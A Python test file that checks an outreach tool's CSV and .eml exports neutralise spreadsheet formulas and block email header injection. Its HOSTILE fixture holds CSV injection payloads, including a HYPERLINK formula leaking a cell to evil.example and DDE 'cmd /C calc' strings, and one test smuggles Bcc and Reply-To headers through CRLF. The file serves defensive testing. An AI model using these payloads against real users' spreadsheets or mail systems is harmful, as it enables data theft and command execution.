"""Exports: CSV cells a spreadsheet would run as formulas are neutralised; ``.eml`` files carry the sender's
name and address, ``Date`` and ``Message-ID``, and header values cannot smuggle in new headers."""

from __future__ import annotations

import csv
import email
import io
import logging
from datetime import UTC, datetime
from email import policy
from email.utils import parseaddr, parsedate_to_datetime
from pathlib import Path

import pytest
from sqlalchemy import Engine

from outreach.exports import MISSING_SENDER_ADDRESS, ExportedEmail, export_emails, load_emails
from store import Campaign, EmailRecord, Prospect, Run, session_scope
from store.exports import neutralise_csv_cell, write_csv

#: Cells as an attacker would plant them (OWASP's CSV injection examples), one per dangerous first character.
HOSTILE = {
    "subject": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "body": "@SUM(1+1)*cmd|' /C calc'!A0",
    "to_name": "+1+cmd|' /C calc'!A0",
    "company": "-2+3+cmd|' /C calc'!A0",
    "sender_name": "\t=1+1",
    "sender_company": "\r=1+1",
}


def _email(**overrides: object) -> ExportedEmail:
    base: dict[str, object] = {
        "email_id": 7, "campaign": "q4", "to_name": "Ana Ruiz", "to_email": "ana@acme.example",
        "company": "Acme", "sender_name": "Sam Lee", "sender_company": "Widgets Ltd",
        "sender_email": "sam@widgets.example", "subject": "Hello", "body": "Hi Ana,\nshort note.", "valid": True,
        "personalised": True, "written_at": "2026-03-04T05:06:07+00:00",
    }
    base.update(overrides)
    return ExportedEmail(**base)  # type: ignore[arg-type]


def _eml(e: ExportedEmail, tmp_path: Path) -> tuple[bytes, email.message.EmailMessage]:
    export_emails([e], "eml", tmp_path / "outbox")
    raw = (tmp_path / "outbox" / f"{e.email_id:06d}.eml").read_bytes()
    return raw, email.message_from_bytes(raw, policy=policy.default)  # type: ignore[return-value]


def test_every_formula_prefix_is_neutralised_and_other_cells_are_not():
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert neutralise_csv_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    for safe in ("Hello =1+1", "ana@acme.example", "'quoted", "", " =x"):
        assert neutralise_csv_cell(safe) == safe
    assert neutralise_csv_cell(-5) == -5 and neutralise_csv_cell(True) is True


def test_csv_export_neutralises_hostile_cells(tmp_path):
    export_emails([_email(**HOSTILE), _email(email_id=8)], "csv", tmp_path / "e.csv")
    with (tmp_path / "e.csv").open(encoding="utf-8", newline="") as fh:
        hostile, plain = list(csv.DictReader(fh))
    for column, planted in HOSTILE.items():
        assert hostile[column] == "'" + planted, column
    assert plain["subject"] == "Hello" and plain["to_email"] == "ana@acme.example" and plain["email_id"] == "8"
    assert hostile["sender_email"] == "sam@widgets.example" and hostile["personalised"] == "True"


def test_write_csv_quotes_every_cell_and_refuses_unknown_columns():
    out = io.StringIO(newline="")
    assert write_csv(out, ["a", "b"], [{"a": "x;=1+1", "b": 2}, {"a": "=y"}], lineterminator="\n") == 2
    assert out.getvalue() == '"a","b"\n"x;=1+1","2"\n"\'=y",""\n'
    with pytest.raises(ValueError, match="c"):
        write_csv(io.StringIO(), ["a"], [{"a": "1", "c": "2"}])


def test_eml_has_sender_name_and_address_date_and_message_id(tmp_path):
    raw, message = _eml(_email(), tmp_path)
    assert parseaddr(message["From"]) == ("Sam Lee", "sam@widgets.example")
    assert parseaddr(message["To"]) == ("Ana Ruiz", "ana@acme.example")
    assert parsedate_to_datetime(message["Date"]) == datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)
    message_id = message["Message-ID"].strip()  # a long one is folded onto its own line (RFC 5322 CFWS)
    assert message_id.startswith("<") and message_id.endswith("@widgets.example>") and ".outreach.7@" in message_id
    assert message["Organization"] == "Widgets Ltd" and message["X-Outreach-Personalised"] == "yes"
    assert b"\r\n" in raw and b"\n" not in raw.replace(b"\r\n", b"")  # SMTP line ends throughout
    assert message.get_content().replace("\r\n", "\n") == "Hi Ana,\nshort note.\n"


def test_message_ids_differ_between_emails(tmp_path):
    export_emails([_email(email_id=1), _email(email_id=2)], "eml", tmp_path / "outbox")
    ids = {email.message_from_bytes(p.read_bytes())["Message-ID"].strip() for p in (tmp_path / "outbox").glob("*.eml")}
    assert len(ids) == 2


def test_eml_without_sender_email_uses_the_reserved_placeholder_and_warns(tmp_path, caplog):
    with caplog.at_level(logging.WARNING, logger="outreach.exports"):
        _, message = _eml(_email(sender_email=""), tmp_path)
    assert parseaddr(message["From"]) == ("Sam Lee", MISSING_SENDER_ADDRESS)
    assert MISSING_SENDER_ADDRESS.endswith(".invalid")  # RFC 2606: can never be delivered
    assert message["Message-ID"].strip().endswith("@outreach.invalid>")
    assert "q4" in caplog.text and "sender_email" in caplog.text


def test_header_values_cannot_add_headers(tmp_path):
    e = _email(subject="Hi\r\nBcc: victim@evil.example", sender_name="Sam\nReply-To: x@evil.example",
               to_name="Ana\r\n\r\nbody")
    _, message = _eml(e, tmp_path)
    assert message["Bcc"] is None and message["Reply-To"] is None
    assert message["Subject"] == "Hi Bcc: victim@evil.example"
    assert parseaddr(message["From"])[1] == "sam@widgets.example"


def test_non_ascii_addresses_are_written_as_smtputf8(tmp_path):
    raw, message = _eml(_email(to_name="Zoë Ünal", to_email="zoë@exämple.com"), tmp_path)
    assert "zoë@exämple.com".encode() in raw and message["Subject"] == "Hello"


def test_load_emails_reads_sender_email_and_written_at(sqlite_engine: Engine):
    offer = {"sender_name": "Sam Lee", "sender_company": "Widgets Ltd", "sender_email": "sam@widgets.example"}
    with session_scope(sqlite_engine) as s:
        campaign = Campaign(name="q4", offer=offer)
        s.add(campaign)
        s.flush()
        prospect = Prospect(campaign_id=campaign.id or 0, first_name="Ana", last_name="Ruiz",
                            email="ana@acme.example", company="Acme")
        s.add(prospect)
        s.flush()
        run = Run(campaign_id=campaign.id or 0, prospect_id=prospect.id or 0, status="done")
        s.add(run)
        s.flush()
        s.add(EmailRecord(run_id=run.id or 0, subject_template="s", body_template="b", subject="Hello",
                          body="Hi", created_at=datetime(2026, 3, 4, 5, 6, 7, tzinfo=UTC)))
    (loaded,) = load_emails(sqlite_engine, "q4")
    assert (loaded.sender_name, loaded.sender_company, loaded.sender_email) == (
        "Sam Lee", "Widgets Ltd", "sam@widgets.example")
    assert loaded.written_at == "2026-03-04T05:06:07+00:00"
